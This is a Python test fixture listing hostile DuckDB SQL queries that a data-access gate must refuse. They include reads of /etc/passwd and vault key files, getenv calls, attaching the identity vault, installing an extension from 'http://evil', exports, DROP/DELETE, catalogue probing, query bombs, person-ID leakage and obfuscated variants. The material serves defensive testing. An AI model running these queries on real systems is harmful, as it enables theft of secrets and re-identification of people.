"""A corpus of hostile queries: every one must be refused before anything reaches the engine.

Granted tables in the tests: ``ae_attendances`` (person_id, diagnosis, event_date, age_band)
and ``fire_home_safety_visits`` (person_id, visit_date). The vault and every other table is not
granted. Each entry is ``(category, sql)``.
"""

from __future__ import annotations

FILE_READS = [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('candour-data/vault.db')",
    "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "SELECT * FROM read_json('/tmp/x.json')",
    "SELECT * FROM read_json_auto('x.json')",
    "SELECT * FROM read_text('/etc/hostname')",
    "SELECT * FROM read_blob('keys/vault.key')",
    "SELECT * FROM 'keys/vault.key'",
    "SELECT * FROM '/etc/passwd'",
    'SELECT * FROM "candour-data/warehouse.duckdb"',
    "SELECT * FROM parquet_scan('x.parquet')",
    "SELECT * FROM glob('*')",
    "SELECT * FROM sniff_csv('x.csv')",
    "SELECT count(*) FROM ae_attendances WHERE diagnosis IN (SELECT * FROM read_csv('x'))",
    "SELECT diagnosis, count(*) FROM ae_attendances JOIN read_csv('x') r ON true GROUP BY 1",
    "SELECT * FROM range(1000000000)",
    "SELECT * FROM generate_series(1, 1000000000)",
    "SELECT * FROM sqlite_scan('vault.db', 'identities')",
    "SELECT * FROM postgres_scan('host=x', 'public', 't')",
    "SELECT * FROM iceberg_scan('x')",
    "SELECT * FROM delta_scan('x')",
    "SELECT count(*) FROM ae_attendances, unnest([1,2,3])",
    "SELECT getenv('HOME')",
    "SELECT current_setting('threads'), count(*) FROM ae_attendances",
    "SELECT count(*), getenv('CANDOUR_HOME') FROM ae_attendances GROUP BY 2",
    "SELECT diagnosis, count(*) FROM ae_attendances GROUP BY diagnosis "
    "HAVING count(*) > (SELECT count(*) FROM read_csv('x'))",
]

STATE_CHANGES = [
    "ATTACH 'candour-data/vault.db' AS v",
    "ATTACH DATABASE ':memory:' AS m",
    "DETACH v",
    "COPY ae_attendances TO '/tmp/out.csv'",
    "COPY (SELECT * FROM ae_attendances) TO 'x.parquet' (FORMAT parquet)",
    "PRAGMA database_list",
    "PRAGMA enable_profiling",
    "SET threads = 64",
    "SET memory_limit = '100GB'",
    "RESET memory_limit",
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL x FROM 'http://evil'",
    "CREATE TABLE t AS SELECT * FROM ae_attendances",
    "CREATE VIEW v AS SELECT 1",
    "CREATE MACRO m(a) AS a",
    "DROP TABLE ae_attendances",
    "DELETE FROM ae_attendances",
    "UPDATE ae_attendances SET diagnosis = 'x'",
    "INSERT INTO ae_attendances VALUES (1)",
    "ALTER TABLE ae_attendances ADD COLUMN x INT",
    "EXPORT DATABASE '/tmp/x'",
    "IMPORT DATABASE '/tmp/x'",
    "CALL pragma_version()",
    "CHECKPOINT",
    "VACUUM",
    "BEGIN TRANSACTION",
    "SUMMARIZE ae_attendances",
    "DESCRIBE ae_attendances",
    "SHOW TABLES",
    "SELECT * INTO t2 FROM ae_attendances",
    "EXPLAIN SELECT count(*) FROM ae_attendances",
    "PIVOT ae_attendances ON diagnosis USING count(*)",
    "SELECT count(*) FROM ae_attendances WHERE diagnosis = ?",
    "SELECT count(*) FROM ae_attendances WHERE diagnosis = $1",
]

SYSTEM_CATALOGUES = [
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM information_schema.columns",
    "SELECT * FROM duckdb_tables()",
    "SELECT * FROM duckdb_columns()",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_extensions()",
    "SELECT * FROM pg_catalog.pg_tables",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM duckdb_databases",
    "SELECT * FROM main.ae_attendances",
    "SELECT * FROM temp.gated_ae_attendances",
    "SELECT * FROM system.main.duckdb_tables",
    "SELECT * FROM pragma_table_info('ae_attendances')",
    "SELECT count(*) FROM ae_attendances WHERE diagnosis IN "
    "(SELECT table_name FROM information_schema.tables)",
]

VAULT_AND_UNGRANTED = [
    "SELECT count(*) FROM vault",
    "SELECT count(*) FROM identities",
    "SELECT diagnosis, count(*) FROM ae_attendances GROUP BY 1 "
    "UNION SELECT given_name, 1 FROM vault",
    "SELECT diagnosis, count(*) FROM ae_attendances GROUP BY 1 "
    "UNION ALL SELECT family_name, count(*) FROM identities GROUP BY 1",
    "SELECT count(*) FROM person_index",
    "SELECT count(*) FROM src_ae_attendances",
    "SELECT count(*) FROM gated_ae_attendances",
    "SELECT count(*) FROM police_incidents",
    "SELECT count(*) FROM ae_attendances a JOIN police_incidents p ON a.person_id = p.person_id",
    "SELECT count(*) FROM ae_attendances WHERE person_id IN (SELECT person_id FROM social_care)",
    "SELECT count(*) FROM vault.identities",
    "SELECT count(*) FROM v.identities",
    "SELECT nhs_number, count(*) FROM ae_attendances GROUP BY 1",
    "SELECT given_name, count(*) FROM ae_attendances GROUP BY 1",
    "SELECT count(*) FROM ae_attendances WHERE postcode = 'ME1 1AA'",
    "SELECT record_key, count(*) FROM ae_attendances GROUP BY 1",
    "SELECT person_num, count(*) FROM ae_attendances GROUP BY 1",
    "WITH ae_attendances AS (SELECT * FROM police_incidents) SELECT count(*) FROM ae_attendances",
    "WITH x AS (SELECT 1) SELECT count(*) FROM vault",
]

RECURSION_AND_BOMBS = [
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r, r r2) SELECT count(*) FROM r",
    "WITH RECURSIVE a AS (SELECT person_id FROM ae_attendances UNION ALL SELECT person_id FROM a) "
    "SELECT count(*) FROM a",
    "SELECT count(*) FROM range(1e12)",
    "SELECT count(*) FROM ae_attendances, generate_series(1, 1000000)",
    "SELECT count(*) FROM ae_attendances WHERE " + " OR ".join(["diagnosis = 'x'"] * 3000),
    "SELECT count(*) FROM ae_attendances -- " + "x" * 25_000,
]

PERSON_ID_OUTPUT = [
    "SELECT person_id FROM ae_attendances",
    "SELECT person_id, count(*) FROM ae_attendances GROUP BY person_id",
    "SELECT upper(person_id), count(*) FROM ae_attendances GROUP BY 1",
    "SELECT substring(person_id, 1, 5) AS p, count(*) FROM ae_attendances GROUP BY p",
    "SELECT person_id || '' AS p FROM ae_attendances GROUP BY p",
    "SELECT count(*), person_id FROM ae_attendances GROUP BY ALL",
    "SELECT * FROM ae_attendances",
    "SELECT diagnosis, event_date FROM ae_attendances",
    "SELECT DISTINCT person_id FROM ae_attendances",
    "SELECT diagnosis, row_number() OVER () FROM ae_attendances",
    "SELECT a.person_id FROM ae_attendances a JOIN fire_home_safety_visits f "
    "ON a.person_id = f.person_id",
    "WITH x AS (SELECT person_id FROM ae_attendances) SELECT person_id FROM x",
    "SELECT count(*) FROM ae_attendances UNION ALL SELECT person_id FROM ae_attendances",
    "SELECT max(person_id) || person_id FROM ae_attendances GROUP BY person_id",
    "SELECT diagnosis, list(person_id) FROM ae_attendances GROUP BY diagnosis",
    "SELECT diagnosis, string_agg(person_id, ',') FROM ae_attendances GROUP BY diagnosis",
]

MULTIPLE_STATEMENTS = [
    "SELECT count(*) FROM ae_attendances; SELECT count(*) FROM ae_attendances",
    "SELECT count(*) FROM ae_attendances; DROP TABLE ae_attendances",
    "SELECT count(*) FROM ae_attendances;ATTACH 'vault.db'",
    "SELECT count(*) FROM ae_attendances; PRAGMA database_list",
    "SELECT count(*) FROM ae_attendances /* ; */ ; COPY ae_attendances TO 'x'",
]

OBFUSCATED = [
    "SeLeCt * FrOm ReAd_CsV('/etc/passwd')",
    "select/**/*/**/from/**/read_csv('/etc/passwd')",
    "SELECT * FROM \"read_csv\"('/etc/passwd')",
    "SELECT * FROM READ_PARQUET ('x')",
    "SELECT * FROM\n-- a comment\nread_csv('x')",
    "/* harmless */ ATTACH 'vault.db'",
    'SELECT count(*) FROM "AE_ATTENDANCES" UNION SELECT 1 FROM "VAULT"',
    "SELECT count(*) FROM ae_attendances WHERE 'x' = 'x'; ATTACH 'v'",
    "sElEcT count(*) FROM Information_Schema.Tables",
    "SELECT count(*) FROM DUCKDB_TABLES()",
    "SELECT count(*) FROM ae_attendances WHERE diagnosis = 'x' "
    "UNION SELECT count(*) FROM read_csv('/etc/' || 'passwd')",
    "SELECT GetEnv('HOME')",
    "SELECT\tPERSON_ID\tFROM\tAE_ATTENDANCES",
    'select "person_id" from "ae_attendances"',
    'SELECT count(*) FROM ae_attendances AS "vault" UNION SELECT count(*) FROM vault',
]

CORPUS: list[tuple[str, str]] = [
    *[("file-read", q) for q in FILE_READS],
    *[("state-change", q) for q in STATE_CHANGES],
    *[("system-catalogue", q) for q in SYSTEM_CATALOGUES],
    *[("vault-or-ungranted", q) for q in VAULT_AND_UNGRANTED],
    *[("recursion-or-bomb", q) for q in RECURSION_AND_BOMBS],
    *[("person-id-output", q) for q in PERSON_ID_OUTPUT],
    *[("multiple-statements", q) for q in MULTIPLE_STATEMENTS],
    *[("obfuscated", q) for q in OBFUSCATED],
]
